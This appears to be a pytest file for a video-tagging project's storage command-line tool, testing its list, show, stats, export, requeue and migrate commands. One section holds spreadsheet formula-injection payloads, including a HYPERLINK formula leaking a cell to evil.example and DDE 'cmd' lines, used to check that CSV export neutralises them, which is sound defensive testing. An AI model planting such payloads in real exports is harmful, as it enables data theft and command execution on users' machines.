"""``python -m storage`` as people and programs run it, on a real database: its entry point
in this process, and a real subprocess where only a process shows it (``run_cli``)."""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import socket
import subprocess
import sys
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np
import pytest
import redis
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session

import storage.__main__ as entry_point
from actiontag.settings import env_name
from actiontag.thumbnails import encode_thumbnails
from storage import ingest, transitions
from storage.cli import main
from storage.db import head_revision, make_sessionmaker
from storage.options import REPORT_LIMIT, REVIEW_FILTERS, STATES, parse_age, parse_since
from storage.queries.annotations import REVIEW_FILTERS as stored_review_filters
from storage.report import DEFAULT_LIMIT
from storage.results import JobResult, complete_job
from storage.schema import Job, JobState, Model
from tests.cli import CliResult, run_in_process

from .conftest import digest, hand_over

DATABASE_URL_ENV = env_name("database_url")
REDIS_URL = os.environ.get("ACTIONTAG_TEST_REDIS_URL", "redis://127.0.0.1:6379/0")
ODD_NAME = "/inbox/sub dir/plié #1 & more.mp4"
# Run these on SQLite only: the PostgreSQL variants of list/show/stats/export cover it.
sqlite_only = pytest.mark.parametrize("store_url", ["sqlite"], indirect=True)


def _closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def run_cli(
    *args: str,
    url: str | None,
    cwd: Path,
    env_url: str | None = None,
    broker: dict[str, str] | None = None,
    process: bool = False,
) -> CliResult:
    """``python -m storage ARGS`` in ``cwd`` with only the given ``ACTIONTAG_DATABASE_URL``
    and broker settings in its environment: its exit code and what it printed.

    It runs in this process (``storage.__main__.main``, what ``python -m storage`` runs)
    unless ``process`` is set or the command sends to a broker: a subprocess costs ~1 s of
    interpreter and imports, ~60 runs here. Each test file keeps real subprocess runs for
    what only a process shows (the entry point, the environment, piped output), and
    requeue and retag always run in one: their Celery app stays out of the test process.
    """
    hand_over()  # the command reads in a session of its own
    env = {k: v for k, v in os.environ.items() if k != DATABASE_URL_ENV}
    if env_url is not None:
        env[DATABASE_URL_ENV] = env_url
    # Requeue reaches no real broker unless the test gives one: a dead one leaves jobs queued.
    env["ACTIONTAG_BROKER_URL"] = f"redis://127.0.0.1:{_closed_port()}/0"
    env.update(broker or {})
    flags = ["--database-url", url] if url is not None else []
    if process or args[0] in ("requeue", "retag"):
        done = subprocess.run(
            [sys.executable, "-m", "storage", *flags, *args],
            capture_output=True,
            text=True,
            cwd=cwd,
            env=env,
            timeout=120,
        )
        return CliResult(done.returncode, done.stdout, done.stderr)
    return run_in_process(entry_point.main, [*flags, *args], env=env, cwd=cwd)


@pytest.fixture
def rows(session: Session, model: Model) -> dict[str, int]:
    """Two tagged videos (one under an awkward name, with thumbnails), one failed, one queued."""
    ids = {}
    for name, path, predictions in [
        ("plie", ODD_NAME, [("run", 0.81), ("walk", 0.15), ("jump", 0.04)]),
        ("stroll", "/inbox/stroll.mp4", [("walk", 0.55), ("run", 0.45)]),
    ]:
        job = ingest.record_path(session, path, digest(name), 2_000_000, model).job
        transitions.claim_job(session, job.id, "celery@host", max_attempts=3)
        complete_job(
            session,
            job.id,
            JobResult(
                predictions=predictions,
                expert_usage=[(0.7, 5), (0.3, 1)],
                video_meta={
                    "duration": 3.0,
                    "fps": 25.0,
                    "frames": 75,
                    "width": 320,
                    "height": 240,
                },
                decode_ms=11.0,
                inference_ms=222.0,
                thumbnails=encode_thumbnails([np.zeros((24, 32, 3), np.uint8)] * 2),
            ),
        )
        ids[name] = job.id
    broken = ingest.record_path(session, "/inbox/broken.mp4", digest("broken"), 10, model).job
    transitions.fail_job(session, broken.id, "cannot decode: moov atom not found")
    ids["broken"] = broken.id
    ids["waiting"] = ingest.record_path(
        session, "/inbox/waiting.mp4", digest("w"), 10, model
    ).job.id
    return ids


def test_the_parsers_copies_are_the_states_the_report_limit_and_the_review_filters() -> None:
    # storage.options writes them out so that --help need not import SQLAlchemy.
    assert tuple(state.value for state in JobState) == STATES
    assert DEFAULT_LIMIT == REPORT_LIMIT
    assert stored_review_filters == REVIEW_FILTERS


def test_help_names_every_command(tmp_path: Path) -> None:
    result = run_cli("--help", url=None, cwd=tmp_path, process=True)
    assert result.returncode == 0
    for command in (
        "list",
        "show",
        "stats",
        "export",
        "requeue",
        "moments",
        "agreement",
        "retag",
        "migrate",
        "--database-url",
    ):
        assert command in result.stdout


@pytest.mark.parametrize(
    "command",
    ["list", "show", "stats", "export", "requeue", "moments", "agreement", "retag", "migrate"],
)
def test_each_command_has_complete_help(command: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exited:
        main([command, "--help"])
    out = capsys.readouterr().out
    assert exited.value.code == 0
    assert out.startswith(f"usage: python -m storage {command}")
    assert len(out.splitlines()) > 3


def test_list_shows_a_table_of_every_job(store_url: str, rows, tmp_path: Path) -> None:
    result = run_cli("list", url=store_url, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    header, rule, *lines, total = result.stdout.splitlines()
    assert header.split()[:4] == ["JOB", "STATE", "TOP-1", "CONF"]
    assert set(rule) <= {"-", " "}
    assert total == "4 result(s)"
    by_job = {int(line.split()[0]): line for line in lines}
    assert set(by_job) == set(rows.values())
    assert "done" in by_job[rows["plie"]] and "0.810" in by_job[rows["plie"]]
    assert by_job[rows["plie"]].endswith(ODD_NAME)
    assert "cannot decode: moov atom not found" in by_job[rows["broken"]]


def test_list_filters_by_label_and_confidence(store_url: str, rows, tmp_path: Path) -> None:
    result = run_cli(
        "list", "--label", "run", "--min-confidence", "0.5", url=store_url, cwd=tmp_path
    )
    assert result.returncode == 0, result.stderr
    jobs_listed = [int(line.split()[0]) for line in result.stdout.splitlines()[2:-1]]
    assert jobs_listed == [rows["plie"]]
    assert "MATCH" in result.stdout.splitlines()[0]


@sqlite_only
def test_list_filters_by_state_and_since(store_url: str, rows, tmp_path: Path) -> None:
    failed = run_cli("list", "--state", "failed", "--since", "1h", url=store_url, cwd=tmp_path)
    assert [int(line.split()[0]) for line in failed.stdout.splitlines()[2:-1]] == [rows["broken"]]
    future = run_cli("list", "--since", "2999-01-01", url=store_url, cwd=tmp_path)
    assert future.stdout.splitlines()[-1] == "0 result(s)"


@sqlite_only
def test_list_reads_the_database_from_the_environment(store_url: str, rows, tmp_path: Path) -> None:
    result = run_cli("list", url=None, cwd=tmp_path, env_url=store_url, process=True)
    assert result.stdout.splitlines()[-1] == "4 result(s)"


def test_show_prints_paths_top_k_experts_and_timing(store_url: str, rows, tmp_path: Path) -> None:
    result = run_cli("show", digest("plie")[:8], url=store_url, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert f"sha256 {digest('plie')}" in out
    assert "320x240, 25.00 fps, 75 frames, 3.00 s" in out
    assert ODD_NAME in out
    assert "top-3 actions:" in out
    assert " 1. run   0.810  ################" in out
    assert "expert  0  0.700     5  ##############" in out
    assert "decode 11.0 ms  inference 222.0 ms" in out


@sqlite_only
def test_show_accepts_a_path(store_url: str, rows, tmp_path: Path) -> None:
    result = run_cli("show", ODD_NAME, url=store_url, cwd=tmp_path)
    assert result.returncode == 0 and digest("plie") in result.stdout


@sqlite_only
def test_show_of_a_failed_video_prints_its_error(store_url: str, rows, tmp_path: Path) -> None:
    result = run_cli("show", "/inbox/broken.mp4", url=store_url, cwd=tmp_path)
    assert "state failed" in result.stdout
    assert "error: cannot decode: moov atom not found" in result.stdout


@sqlite_only
def test_show_of_an_unknown_video_is_a_readable_error(store_url: str, rows, tmp_path: Path) -> None:
    result = run_cli("show", "/nowhere.mp4", url=store_url, cwd=tmp_path)
    assert result.returncode == 1
    assert result.stderr.startswith("error: no video has the path")
    assert "Traceback" not in result.stderr


def test_stats_prints_states_labels_and_experts(store_url: str, rows, tmp_path: Path) -> None:
    result = run_cli("stats", url=store_url, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert "videos 4  models 1" in out
    assert "jobs: queued 1  running 0  done 2  failed 1" in out
    labels = out.split("top-1 labels of done jobs:")[1].split("expert usage")[0]
    assert [line.split()[:2] for line in labels.strip().splitlines()[2:]] == [
        ["run", "1"],
        ["walk", "1"],
    ]
    experts = out.split("expert usage over done jobs:")[1].strip().splitlines()[2:]
    assert [line.split()[:4] for line in experts] == [
        ["0", "0.700", "5.000", "2"],
        ["1", "0.300", "1.000", "2"],
    ]


def test_export_csv_has_one_line_per_job_with_top_k_and_experts(
    store_url: str, rows, tmp_path: Path
) -> None:
    result = run_cli("export", "--format", "csv", url=store_url, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    records = {int(r["job_id"]): r for r in csv.DictReader(io.StringIO(result.stdout))}
    assert set(records) == set(rows.values())
    plie = records[rows["plie"]]
    assert (plie["path"], plie["state"], plie["label_1"], plie["confidence_1"]) == (
        ODD_NAME,
        "done",
        "run",
        "0.81",
    )
    assert (plie["label_3"], plie["expert_1_weight"], plie["expert_1_chosen"]) == (
        "jump",
        "0.3",
        "1",
    )
    assert records[rows["waiting"]]["label_1"] == ""


def test_export_json_to_a_file_keeps_nested_results(store_url: str, rows, tmp_path: Path) -> None:
    target = tmp_path / "out" / "results.json"
    result = run_cli(
        "export",
        "--format",
        "json",
        "--state",
        "done",
        "-o",
        str(target),
        url=store_url,
        cwd=tmp_path,
    )
    assert result.returncode == 0, result.stderr
    assert "wrote 2 result(s)" in result.stderr
    records = json.loads(target.read_text(encoding="utf-8"))
    plie = next(r for r in records if r["job_id"] == rows["plie"])
    assert plie["path"] == ODD_NAME
    assert [p["label"] for p in plie["predictions"]] == ["run", "walk", "jump"]
    assert plie["expert_usage"][0] == {"expert": 0, "mean_gate_weight": 0.7, "times_chosen": 5}


def test_export_json_leaves_thumbnails_out(store_url: str, rows, tmp_path: Path) -> None:
    # Thumbnails are JPEG bytes for the report, not results: exports stay plain JSON.
    result = run_cli("export", "--format", "json", url=store_url, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    (plie,) = [r for r in json.loads(result.stdout) if r["job_id"] == rows["plie"]]
    assert not any("thumb" in key for key in plie)


@sqlite_only
def test_requeue_failed_requeues_and_keeps_jobs_queued_without_a_broker(
    store_url: str, engine: Engine, rows, tmp_path: Path
) -> None:
    result = run_cli("requeue", "--failed", url=store_url, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert f"requeued 1 job(s): {rows['broken']}" in result.stdout
    assert "stay queued in the database" in result.stderr
    with make_sessionmaker(engine)() as session:
        state, error = session.execute(
            select(Job.state, Job.error).where(Job.id == rows["broken"])
        ).one()
    assert (state, error) == (JobState.QUEUED, None)


@sqlite_only
def test_requeue_sends_the_jobs_to_the_configured_broker_and_queue(
    store_url: str, rows, tmp_path: Path
) -> None:
    queue = f"actiontag-test-{uuid.uuid4().hex[:12]}"
    broker = {"ACTIONTAG_BROKER_URL": REDIS_URL, "ACTIONTAG_QUEUE": queue}
    client = redis.Redis.from_url(REDIS_URL)
    try:
        result = run_cli("requeue", "--failed", url=store_url, cwd=tmp_path, broker=broker)
        assert result.returncode == 0, result.stderr
        assert "sent 1 job(s) to the workers" in result.stdout
        (raw,) = client.lrange(queue, 0, -1)
    finally:
        client.delete(queue)
        client.close()
    message = json.loads(raw)
    assert message["headers"]["task"] == "actiontag.tag_video"
    body = json.loads(base64.b64decode(message["body"]))
    assert body[0] == [rows["broken"]]


def test_requeue_needs_something_to_requeue(sqlite_url: str, tmp_path: Path) -> None:
    result = run_cli("requeue", url=sqlite_url, cwd=tmp_path)
    assert result.returncode == 2 and "--failed and/or --stale" in result.stderr


def test_migrate_creates_the_schema_of_a_new_database(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/new/actiontag.db"
    result = run_cli("migrate", url=url, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert f"is at revision {head_revision()} (latest)" in result.stdout
    assert (tmp_path / "new" / "actiontag.db").is_file()


def test_a_dead_database_is_a_readable_error(tmp_path: Path) -> None:
    url = f"postgresql://postgres@127.0.0.1:{_closed_port()}/actiontag"
    result = run_cli("list", url=url, cwd=tmp_path)
    assert result.returncode == 1
    assert result.stderr.startswith("error: cannot use the database at postgresql+psycopg://")
    assert "Traceback" not in result.stderr


def test_a_bad_since_is_a_usage_error(tmp_path: Path) -> None:
    result = run_cli("list", "--since", "last tuesday", url=None, cwd=tmp_path)
    assert result.returncode == 2 and "neither a date/time" in result.stderr


def test_ages_take_the_one_duration_syntax() -> None:
    assert [parse_age(text) for text in ("90", "500ms", "1.5min", "2h", "1w")] == [
        timedelta(seconds=90),
        timedelta(milliseconds=500),
        timedelta(seconds=90),
        timedelta(hours=2),
        timedelta(weeks=1),
    ]


def test_since_reads_a_date_before_an_age() -> None:
    assert parse_since("20240501") == datetime(2024, 5, 1, tzinfo=UTC)
    assert parse_since("2024-05-01T13:00+02:00") == datetime(2024, 5, 1, 11, tzinfo=UTC)
    ago = datetime.now(UTC) - parse_since("90min")
    assert timedelta(minutes=89) < ago < timedelta(minutes=91)


def test_a_bad_stale_age_is_a_usage_error_with_the_syntax(tmp_path: Path) -> None:
    result = run_cli("requeue", "--stale", "two hours", url=None, cwd=tmp_path)
    assert result.returncode == 2 and "not a duration; write seconds or a number and a unit" in (
        result.stderr
    )


# --- exports that a spreadsheet opens -------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.fixture
def hostile_rows(session: Session, model: Model) -> dict[str, int]:
    """A job whose labels (they come from the checkpoint) and error are formulas."""
    job = ingest.record_path(session, "/inbox/formulas.mp4", digest("formulas"), 100, model).job
    transitions.claim_job(session, job.id, "celery@host", max_attempts=3)
    complete_job(
        session,
        job.id,
        JobResult(
            predictions=[(label, 0.5 - rank / 100) for rank, label in enumerate(FORMULAS)],
            expert_usage=[(1.0, 1)],
            video_meta={},
            decode_ms=1.0,
            inference_ms=1.0,
        ),
    )
    failed = ingest.record_path(session, "/inbox/failed.mp4", digest("failed"), 10, model).job
    transitions.fail_job(session, failed.id, "=1+1 cannot decode")
    return {"formulas": job.id, "failed": failed.id}


@sqlite_only
def test_export_csv_neutralises_cells_a_spreadsheet_would_run(
    store_url: str, hostile_rows: dict[str, int], tmp_path: Path
) -> None:
    target = tmp_path / "results.csv"
    result = run_cli("export", "-o", str(target), url=store_url, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    raw = target.read_bytes().decode("utf-8")
    records = {int(r["job_id"]): r for r in csv.DictReader(io.StringIO(raw, newline=""))}
    labels = [records[hostile_rows["formulas"]][f"label_{i + 1}"] for i in range(len(FORMULAS))]
    assert labels == ["'" + formula for formula in FORMULAS]
    assert records[hostile_rows["failed"]]["error"] == "'=1+1 cannot decode"
    # Quoted as well (OWASP): the quote's escaping and the ' prefix are inside the quotes.
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"' in raw
    assert ",\"'+cmd|' /C calc'!A0\"," in raw
    # Ordinary text and numbers are left as they are.
    assert records[hostile_rows["formulas"]]["path"] == "/inbox/formulas.mp4"
    assert records[hostile_rows["formulas"]]["confidence_1"] == "0.5"


@sqlite_only
def test_export_csv_ends_every_line_with_crlf(store_url: str, rows, tmp_path: Path) -> None:
    target = tmp_path / "results.csv"
    assert run_cli("export", "-o", str(target), url=store_url, cwd=tmp_path).returncode == 0
    raw = target.read_bytes()
    assert raw.endswith(b"\r\n")
    lines = raw.split(b"\r\n")[:-1]
    assert len(lines) == 1 + len(rows)  # the header, then a job per line
    assert not any(b"\n" in line or b"\r" in line for line in lines)
    # Standard output carries the same bytes.
    piped = subprocess.run(
        [sys.executable, "-m", "storage", "--database-url", store_url, "export"],
        capture_output=True,
        cwd=tmp_path,
        timeout=120,
    )
    assert piped.returncode == 0 and piped.stdout == raw


# --- a video under several names ------------------------------------------


@pytest.fixture
def renamed(session: Session, model: Model) -> dict[str, int]:
    """One content recorded as first.mp4, then seen as second.mp4 and third.mp4; its job
    failed reading first.mp4. Another video under one name only."""
    job = ingest.record_path(session, "/inbox/first.mp4", digest("same"), 100, model).job
    for name in ("second", "third"):
        again = ingest.record_path(session, f"/inbox/{name}.mp4", digest("same"), 100, model)
        assert (again.job.id, again.created) == (job.id, False)
    transitions.claim_job(session, job.id, "celery@host", max_attempts=3)
    transitions.fail_job(
        session, job.id, "cannot read '/inbox/first.mp4' as a video: moov atom not found"
    )
    single = ingest.record_path(session, "/inbox/single.mp4", digest("single"), 10, model).job
    return {"renamed": job.id, "single": single.id}


@sqlite_only
def test_list_shows_the_path_the_job_used_and_how_many_more(
    store_url: str, renamed: dict[str, int], tmp_path: Path
) -> None:
    result = run_cli("list", url=store_url, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    (line,) = [
        row for row in result.stdout.splitlines() if row.split()[:1] == [str(renamed["renamed"])]
    ]
    # The error is about first.mp4, and so is the name shown next to it.
    assert "  /inbox/first.mp4 (+2 more): cannot read '/inbox/first.mp4' as a video" in line
    (single,) = [row for row in result.stdout.splitlines() if "single.mp4" in row]
    assert single.endswith("/inbox/single.mp4")


def test_list_shows_the_path_the_worker_read(
    store_url: str, session: Session, model: Model, tmp_path: Path
) -> None:
    job = ingest.record_path(session, "/inbox/old name.mp4", digest("moved"), 100, model).job
    ingest.record_path(session, "/inbox/new name.mp4", digest("moved"), 100, model)
    ingest.record_path(session, "/inbox/newest name.mp4", digest("moved"), 100, model)
    transitions.claim_job(session, job.id, "celery@host", max_attempts=3)
    # The worker read the second name (the newest was already gone, say).
    transitions.fail_job(session, job.id, "it is a still image (png)", path="/inbox/new name.mp4")
    result = run_cli("list", url=store_url, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "/inbox/new name.mp4 (+2 more): it is a still image (png)" in result.stdout


def test_export_carries_every_path_of_a_video(
    store_url: str, renamed: dict[str, int], tmp_path: Path
) -> None:
    every = ["/inbox/first.mp4", "/inbox/second.mp4", "/inbox/third.mp4"]
    as_csv = run_cli("export", url=store_url, cwd=tmp_path)
    assert as_csv.returncode == 0, as_csv.stderr
    reader = csv.DictReader(io.StringIO(as_csv.stdout))
    assert reader.fieldnames[reader.fieldnames.index("path") + 1] == "paths"
    records = {int(r["job_id"]): r for r in reader}
    assert records[renamed["renamed"]]["path"] == "/inbox/first.mp4"
    assert json.loads(records[renamed["renamed"]]["paths"]) == every
    assert json.loads(records[renamed["single"]]["paths"]) == ["/inbox/single.mp4"]

    as_json = run_cli("export", "--format", "json", url=store_url, cwd=tmp_path)
    assert as_json.returncode == 0, as_json.stderr
    by_id = {r["job_id"]: r for r in json.loads(as_json.stdout)}
    assert (by_id[renamed["renamed"]]["path"], by_id[renamed["renamed"]]["paths"]) == (
        "/inbox/first.mp4",
        every,
    )
